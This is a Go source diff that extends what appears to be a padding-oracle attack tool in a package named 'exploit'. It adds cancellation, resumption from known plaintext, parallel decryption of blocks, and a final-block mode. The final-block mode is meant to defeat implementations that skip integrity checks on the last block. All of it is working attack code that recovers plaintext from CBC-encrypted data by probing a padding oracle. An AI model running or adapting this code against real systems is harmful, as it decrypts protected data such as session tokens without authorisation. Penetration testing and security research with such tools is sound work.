@@ -1,22 +1,38 @@
 package exploit
 
-import "fmt"
+import (
+	"context"
+	"fmt"
+)
 
-func (p *Padre) Decrypt(ciphertext []byte, byteStream chan byte) ([]byte, error) {
+// Decrypt decrypts ciphertext (IV is expected in first block) using padding oracle.
+// probing stops when ctx is done, the error of context is returned then.
+// every recovered byte of plaintext is delivered into byteStream as soon as discovered (in reverse order)
+func (p *Padre) Decrypt(ctx context.Context, ciphertext []byte, byteStream chan byte) ([]byte, error) {
+	return p.DecryptWithKnown(ctx, ciphertext, nil, byteStream)
+}
+
+// DecryptWithKnown is like Decrypt, but skips blocks which are already known.
+// known is the trailing part of plaintext, recovered previously (e.g. in interrupted session),
+// only complete blocks of it are used. Known bytes are delivered into byteStream as well
+func (p *Padre) DecryptWithKnown(ctx context.Context, ciphertext, known []byte, byteStream chan byte) ([]byte, error) {
 	blockLen := p.BlockLen
 
 	// check length of ciphertext against block length
 	if len(ciphertext)%blockLen != 0 {
-		return nil, fmt.Errorf("Ciphertext length is not compatible with block length (%d %% %d != 0)", len(ciphertext), blockLen)
+		return nil, inputError{fmt.Errorf("Ciphertext length is not compatible with block length (%d %% %d != 0)", len(ciphertext), blockLen)}
+	}
+	if err := p.checkByteRange(); err != nil {
+		return nil, err
 	}
 
 	// confirm validity of provided cipher
-	pe, err := p.IsPaddingErrorInChunk(ciphertext)
+	pe, err := p.IsPaddingErrorInChunk(ctx, ciphertext)
 	if err != nil {
 		return nil, err
 	}
 	if pe {
-		return nil, fmt.Errorf("Input cipher produced a padding error. You must provide a valid cipher to decrypt")
+		return nil, inputError{fmt.Errorf("Input cipher produced a padding error. You must provide a valid cipher to decrypt")}
 	}
 
 	// count blocks
@@ -27,25 +43,185 @@ func (p *Padre) Decrypt(ciphertext []byte, byteStream chan byte) ([]byte, error)
 	plainLen := len(ciphertext) - blockLen
 	plainText := make([]byte, plainLen)
 
+	// reuse complete blocks of known plaintext
+	knownLen := len(known) / blockLen * blockLen
+	if knownLen > plainLen {
+		return nil, inputError{fmt.Errorf("Known plaintext is longer than ciphertext allows (%d > %d)", knownLen, plainLen)}
+	}
+	copy(plainText[plainLen-knownLen:], known[len(known)-knownLen:])
+	streamReversed(plainText[plainLen-knownLen:], byteStream)
+
+	// blocks of plaintext, that are known or decrypted
+	done := make([]bool, plainLen/blockLen)
+	for i := len(done) - knownLen/blockLen; i < len(done); i++ {
+		done[i] = true
+		p.blockDecrypted(plainText, i)
+	}
+	incomplete := func(err error) error {
+		return &IncompleteError{Plaintext: plainText, Done: done, Err: err}
+	}
+
+	// several blocks at once
+	lastBlock := blockCount - knownLen/blockLen
+	if p.BlockParallel > 1 && lastBlock > 2 {
+		if err := p.decryptBlocksParallel(ctx, ciphertext, plainText, lastBlock, done, byteStream); err != nil {
+			return nil, incomplete(err)
+		}
+		return plainText, nil
+	}
+
+	// from the head, block by block
+	if p.HeadFirst {
+		for blockNum := 2; blockNum <= lastBlock; blockNum++ {
+			if err := p.decryptBlock(ctx, ciphertext, plainText, blockNum, nil); err != nil {
+				return nil, incomplete(err)
+			}
+			done[blockNum-2] = true
+			p.blockDecrypted(plainText, blockNum-2)
+		}
+		streamReversed(plainText[:(lastBlock-1)*blockLen], byteStream)
+		return plainText, nil
+	}
+
 	// decrypt block by block moving backwards, except first (IV)
-	for blockNum := blockCount; blockNum >= 2; blockNum-- {
-		// mark indexes
-		x := (blockNum - 2) * blockLen
-		y := (blockNum - 1) * blockLen
-		z := blockNum * blockLen
-
-		// get cipher block and corresponding IV from ciphertext
-		IV, block := ciphertext[x:y], ciphertext[y:z]
-
-		// derive the nulling IV for the block
-		nullingIV, err := p.breakCipher(block, newXORingStreamer(IV, byteStream))
-		if err != nil {
-			return nil, fmt.Errorf("error occurred while decrypting block %d: %w", blockNum, err)
+	for blockNum := lastBlock; blockNum >= 2; blockNum-- {
+		x, y := (blockNum-2)*blockLen, (blockNum-1)*blockLen
+		if err := p.decryptBlock(ctx, ciphertext, plainText, blockNum, newXORingStreamer(ciphertext[x:y], byteStream)); err != nil {
+			return nil, incomplete(err)
 		}
+		done[blockNum-2] = true
+		p.blockDecrypted(plainText, blockNum-2)
+	}
+
+	return plainText, nil
+}
+
+// decrypts block of ciphertext (numbered from 1, which is IV) into its place in plainText
+func (p *Padre) decryptBlock(ctx context.Context, ciphertext, plainText []byte, blockNum int, byteStreamer func(byte)) error {
+	blockLen := p.BlockLen
+
+	// mark indexes
+	x := (blockNum - 2) * blockLen
+	y := (blockNum - 1) * blockLen
+	z := blockNum * blockLen
 
-		// derive plaintext block
-		copy(plainText[x:y], xorSlices(nullingIV, IV))
+	// get cipher block and corresponding IV from ciphertext
+	IV, block := ciphertext[x:y], ciphertext[y:z]
+
+	// derive the nulling IV for the block
+	guess := p.guess(IV, x)
+	nullingIV, err := p.breakVerified(ctx, blockNum, block, guess, z == len(ciphertext), byteStreamer)
+	if err != nil {
+		return &BlockError{Block: blockNum, Err: err, what: fmt.Sprintf("decrypting block %d", blockNum)}
+	}
+
+	if p.Trace != nil {
+		p.traceDecrypted(blockNum-1, nullingIV, IV)
 	}
 
+	// derive plaintext block
+	copy(plainText[x:y], xorSlices(nullingIV, IV))
+	return nil
+}
+
+// decrypts blocks from lastBlock down to 2 (or the other way round, see HeadFirst), up to BlockParallel of them at once.
+// plaintext is delivered into byteStream in the same order as if blocks were decrypted one by one:
+// decrypted block is delivered once all the blocks after it are. decrypted blocks are marked in done
+func (p *Padre) decryptBlocksParallel(ctx context.Context, ciphertext, plainText []byte, lastBlock int, done []bool, byteStream chan byte) error {
+	// the rest of blocks is cancelled upon the first error
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	type result struct {
+		blockNum int
+		err      error
+	}
+	results := make(chan result, lastBlock)
+	slots := make(chan struct{}, p.BlockParallel)
+
+	for i := lastBlock; i >= 2; i-- {
+		// blocks take free slots roughly in order of start
+		blockNum := i
+		if p.HeadFirst {
+			blockNum = lastBlock + 2 - i
+		}
+		go func(blockNum int) {
+			select {
+			case slots <- struct{}{}:
+				defer func() { <-slots }()
+			case <-ctx.Done():
+				results <- result{blockNum, ctx.Err()}
+				return
+			}
+			results <- result{blockNum, p.decryptBlock(ctx, ciphertext, plainText, blockNum, nil)}
+		}(blockNum)
+	}
+
+	var (
+		firstErr error
+		next     = lastBlock // the next block to deliver
+	)
+	for i := lastBlock; i >= 2; i-- {
+		r := <-results
+		if r.err != nil {
+			if firstErr == nil {
+				firstErr = r.err
+				cancel()
+			}
+			continue
+		}
+
+		done[r.blockNum-2] = true
+		p.blockDecrypted(plainText, r.blockNum-2)
+		for ; firstErr == nil && next >= 2 && done[next-2]; next-- {
+			streamReversed(plainText[(next-2)*p.BlockLen:(next-1)*p.BlockLen], byteStream)
+		}
+	}
+	return firstErr
+}
+
+// DecryptFinalBlock decrypts only the final block of ciphertext.
+// unlike Decrypt, every probe carries all the preceding blocks of original ciphertext intact,
+// this helps against implementations that skip integrity (MAC) validation of final block
+func (p *Padre) DecryptFinalBlock(ctx context.Context, ciphertext []byte, byteStream chan byte) ([]byte, error) {
+	blockLen := p.BlockLen
+
+	if len(ciphertext)%blockLen != 0 || len(ciphertext) < 2*blockLen {
+		return nil, inputError{fmt.Errorf("Ciphertext length is not compatible with block length (%d %% %d != 0), or shorter than 2 blocks", len(ciphertext), blockLen)}
+	}
+	if err := p.checkByteRange(); err != nil {
+		return nil, err
+	}
+
+	// mark indexes
+	y := len(ciphertext) - blockLen
+	x := y - blockLen
+
+	// get final block and corresponding IV from ciphertext
+	IV, block := ciphertext[x:y], ciphertext[y:]
+
+	// the preceding blocks are sent along with every probe
+	probe := *p
+	probe.prefix = ciphertext[:x]
+
+	guess := p.guess(IV, x)
+	nullingIV, err := probe.breakVerified(ctx, len(ciphertext)/blockLen, block, guess, true, newXORingStreamer(IV, byteStream))
+	if err != nil {
+		return nil, &BlockError{Block: len(ciphertext) / blockLen, Err: err, what: "decrypting final block"}
+	}
+
+	if p.Trace != nil {
+		p.traceDecrypted(len(ciphertext)/blockLen-1, nullingIV, IV)
+	}
+
+	plainText := xorSlices(nullingIV, IV)
+	p.blockDecrypted(plainText, 0)
 	return plainText, nil
 }
+
+// reports i-th block of plaintext to BlockDecrypted
+func (p *Padre) blockDecrypted(plainText []byte, i int) {
+	if p.BlockDecrypted != nil {
+		p.BlockDecrypted(i*p.BlockLen, plainText[i*p.BlockLen:(i+1)*p.BlockLen])
+	}
+}